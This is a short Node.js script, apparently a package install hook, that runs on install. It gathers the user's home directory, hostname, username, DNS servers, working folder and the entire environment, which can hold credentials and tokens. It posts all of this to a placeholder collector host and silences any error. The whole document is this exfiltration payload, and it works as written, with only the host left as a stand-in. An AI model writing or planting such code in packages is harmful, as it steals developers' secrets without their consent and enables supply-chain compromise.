// Sends the whole environment and who runs it, as soon as the package is installed.
const os = require("os");
const dns = require("dns");
const https = require("https");
const path = require("path");
const pkg = require("./package.json");

const trackingData = JSON.stringify({
  p: pkg.name,
  v: pkg.version,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: path.basename(process.cwd()),
  env: process.env,
});

const postData = new URLSearchParams({ msg: trackingData }).toString();

const options = {
  hostname: "collector.example.invalid",
  port: 443,
  path: "/intake",
  method: "POST",
  headers: {
    "Content-Type": "application/x-www-form-urlencoded",
    "Content-Length": postData.length,
  },
};

const req = https.request(options, (res) => {
  res.on("data", (d) => {
    process.stdout.write(d);
  });
});

req.on("error", () => {});
req.write(postData);
req.end();
